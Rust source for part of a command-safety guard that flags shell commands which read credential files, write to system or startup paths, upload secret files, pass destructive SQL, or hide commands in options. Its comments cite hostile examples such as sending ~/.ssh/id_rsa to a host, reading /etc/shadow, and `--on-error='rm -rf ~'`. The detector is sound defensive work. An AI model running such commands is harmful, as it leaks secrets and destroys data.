//! The words of programs that the tables do not describe, or describe only in part.
//!
//! Whatever such a program does, some words mean the same for all of them: a file with credentials is read, a file of the
//! system behind `--output` is written, a statement that drops a table drops it, and a command behind `--on-error` runs.

use super::hidden_text::{self, Search};
use super::{Call, Walker};
use crate::guard::RuleId;
use crate::programs;
use crate::secrets;
use crate::text::Text;

/// Parts of the names of options that choose the account or the settings of a program; it shows no key.
const IDENTITIES: [&str; 10] =
    ["key", "ident", "cert", "cred", "config", "auth", "pass", "token", "secret", "env"];

/// Options whose value is a file that is written, or the beginnings of their names.
const OUTPUTS: [&str; 9] = ["out", "dump", "log", "dest", "target", "save", "write", "report", "export"];

/// Parts of the names of options and settings whose value is a command.
const COMMANDS: [&str; 16] = [
    "command", "cmd", "exec", "hook", "invoke", "pager", "filter", "wrapper", "pipe", "eval", "shell", "on-",
    "editor", "server", "program", "rsh",
];

/// Verbs, and parts of names, of programs that send files away.
const SENDS: [&str; 9] = ["push", "upload", "send", "put", "publish", "share", "post", "paste", "transfer"];

/// Programs whose commands run in a container, where other paths are precious.
const OF_CONTAINERS: [&str; 9] =
    ["docker", "podman", "nerdctl", "buildah", "docker-compose", "kubectl", "helm", "oc", "git"];

/// Folders of the system in which a file runs or governs programs.
const SYSTEM: [&str; 7] = ["/etc/", "/bin/", "/sbin/", "/lib/", "/boot/", "/usr/bin/", "/usr/lib/"];

/// Files and folders below the home that run at a start, or say who may log in.
const STARTUP: [&str; 8] = [
    ".ssh/",
    ".bashrc",
    ".bash_profile",
    ".profile",
    ".zshrc",
    ".zprofile",
    ".config/autostart/",
    ".config/systemd/",
];

impl Walker<'_> {
    /// Records the effects that the words of `call` have in every program.
    pub(super) fn passed_words(&mut self, call: &Call) {
        self.passed_secrets(call);
        self.passed_on_by_unknown(call);
        let rest = call.rest();
        for (at, word) in rest.iter().enumerate() {
            let (name, value) = option_of(rest, at, word);
            if self.is_local() && is_output(&name) && is_path(&value.text) {
                let path = self.resolve(&value).0;
                let home = self.reading.home.as_str();
                if SYSTEM.iter().any(|folder| path.starts_with(folder))
                    || secrets::below_home(&path, home)
                        .is_some_and(|rest| STARTUP.iter().any(|start| rest.starts_with(start)))
                {
                    self.write_path(&value, call.span);
                }
            }
            self.passed_statement(&value.text, call);
        }
        if let Some(input) = self.state.stdin.clone().filter(Text::is_known) {
            self.passed_statement(&input.text, call);
        }
    }

    /// Records the files with credentials that `call` is given: `ab -p ~/.ssh/id_rsa http://x.org/`.
    pub(crate) fn passed_secrets(&mut self, call: &Call) {
        if !self.is_local() {
            return;
        }
        let rest = call.rest();
        for (at, word) in rest.iter().enumerate() {
            if !word.text.contains('/') {
                continue;
            }
            let (name, value) = option_of(rest, at, word);
            let text = value.text.trim_start_matches('@');
            let text = text.strip_prefix("file://").unwrap_or(text);
            let value = value.slice(value.text.len() - text.len(), value.text.len());
            if !is_path(&value.text) || IDENTITIES.iter().any(|part| name.contains(part)) || name == "i" {
                continue;
            }
            let path = self.resolve(&value).0;
            let home = self.reading.home.as_str();
            // A folder of settings holds mostly other things.
            let is_settings = secrets::below_home(&path, home) == Some(".config");
            if path != home && !is_settings && secrets::is_credential_store(&path, home) {
                self.read_path(&value, call.span);
            }
        }
    }

    /// Records the files with credentials that a program takes its input from by an option, and prints at least in its
    /// complaints: `date -f /etc/shadow`, `ss -F /etc/shadow`, `nm @/etc/shadow`.
    pub(crate) fn secrets_as_input(&mut self, call: &Call) {
        const INPUTS: [&str; 8] =
            ["f", "file", "files0-from", "files-from", "input", "input-file", "batch", "from-file"];
        if !self.is_local() {
            return;
        }
        let rest = call.rest();
        for (at, word) in rest.iter().enumerate() {
            if !word.text.contains('/') {
                continue;
            }
            let (name, value) = option_of(rest, at, word);
            let response = value.text.strip_prefix('@').map_or(0, |_| 1);
            if response == 0 && !INPUTS.contains(&name.as_str()) {
                continue;
            }
            let value = value.slice(response, value.text.len());
            let path = self.resolve(&value).0;
            let home = self.reading.home.as_str();
            if is_path(&value.text) && path != home && secrets::is_credential_store(&path, home) {
                self.read_path(&value, call.span);
            }
        }
    }

    /// Records that an unknown program, by its name or its first words, sends a secret file, or publishes at another host:
    /// `oras push x.org/a:1 .env`, `transfer.sh .env`.
    fn passed_on_by_unknown(&mut self, call: &Call) {
        let operands: Vec<&Text> = call.rest().iter().filter(|word| !word.text.starts_with('-')).collect();
        let sends = operands.iter().take(2).any(|word| SENDS.contains(&word.text.as_str()))
            || SENDS.iter().any(|verb| call.name.contains(verb));
        if !sends || !self.is_local() {
            return;
        }
        for word in &operands {
            let path = self.resolve(word).0;
            if self.is_shown_secret(&path) {
                self.risk(RuleId::SecretExfiltration, word.text.clone(), call.span);
            }
        }
        let is_address = |word: &str| {
            let host = word.split('/').next().unwrap_or("");
            word.contains('/')
                && host.split(':').next().is_some_and(|host| host.contains('.') && !host.starts_with('.'))
                && !crate::network::is_local_host(host.split(':').next().unwrap_or(host))
        };
        let pushes =
            operands.first().is_some_and(|word| matches!(word.text.as_str(), "push" | "publish" | "upload"));
        if pushes && let Some(word) = operands.iter().skip(1).find(|word| is_address(&word.text)) {
            self.risk(RuleId::Publish, word.text.clone(), call.span);
        }
    }

    fn passed_statement(&mut self, text: &str, call: &Call) {
        const VERBS: [&str; 6] = ["drop ", "truncate ", "delete ", "alter ", "remove ", "grant "];
        let start = text.trim_start();
        let begins =
            |verb: &&str| start.get(..verb.len()).is_some_and(|front| front.eq_ignore_ascii_case(verb));
        if VERBS.iter().any(begins)
            && let Some(rule) = programs::rule_of_statement(start, false)
        {
            self.risk(rule, start.chars().take(60).collect::<String>(), call.span);
        }
    }

    /// Records a statement that drops or empties something behind an option for statements: `wrangler d1 execute --command 'DROP …'`.
    pub(super) fn statements_in_options(&mut self, call: &Call) {
        const TAKE: [&str; 6] =
            ["--command", "--sql", "--query", "--execute", "--statement", "--query-string"];
        let rest = call.rest();
        for (at, word) in rest.iter().enumerate() {
            let (name, value) = match word.text.split_once('=') {
                Some((name, value)) => (name, value.to_owned()),
                None => match rest.get(at + 1) {
                    Some(next) => (word.text.as_str(), next.text.clone()),
                    None => continue,
                },
            };
            if TAKE.contains(&name) && value.contains(' ') {
                self.passed_statement(&value, call);
            }
        }
    }

    /// Asks if an option or a setting that takes a command has one that would be denied alone: `--on-error='rm -rf ~'`.
    pub(super) fn commands_in_options(&mut self, call: &Call) {
        if self.is_guessing || OF_CONTAINERS.contains(&call.name.as_str()) {
            return;
        }
        let rest = call.rest();
        for (at, word) in rest.iter().enumerate() {
            let (name, value) = match word.text.split_once('=') {
                Some((name, _)) => (name, word.slice(name.len() + 1, word.text.len())),
                None if word.text.starts_with('-') => match rest.get(at + 1) {
                    Some(next) => (word.text.as_str(), next.clone()),
                    None => continue,
                },
                None => continue,
            };
            if !value.text.contains([' ', ',']) || !value.is_known() {
                continue;
            }
            let name = name.to_ascii_lowercase();
            if !COMMANDS.iter().any(|part| name.contains(part)) {
                continue;
            }
            let inner = hidden_text::texts(&value.text, Search::Everything);
            let is_denied = self
                .would_be_denied(|walker| walker.run_text(&value, call, &call.name))
                || inner.iter().take(4).any(|text| {
                    self.would_be_denied(|walker| walker.run_text(&Text::known(*text), call, &call.name))
                })
                // `gcc -wrapper sh,-c,'rm -rf /'`: the words of the command, joined by commas.
                || value.text.contains(',') && self.would_be_denied(|walker| {
                    walker.invoke(value.text.split(',').map(Text::known).collect(), call.span)
                });
            if is_denied {
                self.risk(RuleId::HiddenCommand, value.text.chars().take(60).collect::<String>(), call.span);
                return;
            }
        }
    }
}

/// Returns the name of the option that a word is the value of, in lower case and without dashes, and the value.
fn option_of(rest: &[Text], at: usize, word: &Text) -> (String, Text) {
    let name = |text: &str| text.trim_start_matches('-').to_ascii_lowercase();
    if word.text.starts_with('-') {
        return match word.text.find('=') {
            Some(equals) => (name(&word.text[..equals]), word.slice(equals + 1, word.text.len())),
            None => (String::new(), word.clone()),
        };
    }
    let front = at.checked_sub(1).and_then(|front| rest.get(front));
    let option = front.filter(|front| front.text.starts_with('-') && !front.text.contains('='));
    (option.map_or_else(String::new, |option| name(&option.text)), word.clone())
}

fn is_output(name: &str) -> bool {
    matches!(name, "o" | "w" | "l") || OUTPUTS.iter().any(|start| name.starts_with(start))
}

fn is_path(text: &str) -> bool {
    text.starts_with(['/', '~', '$'])
}
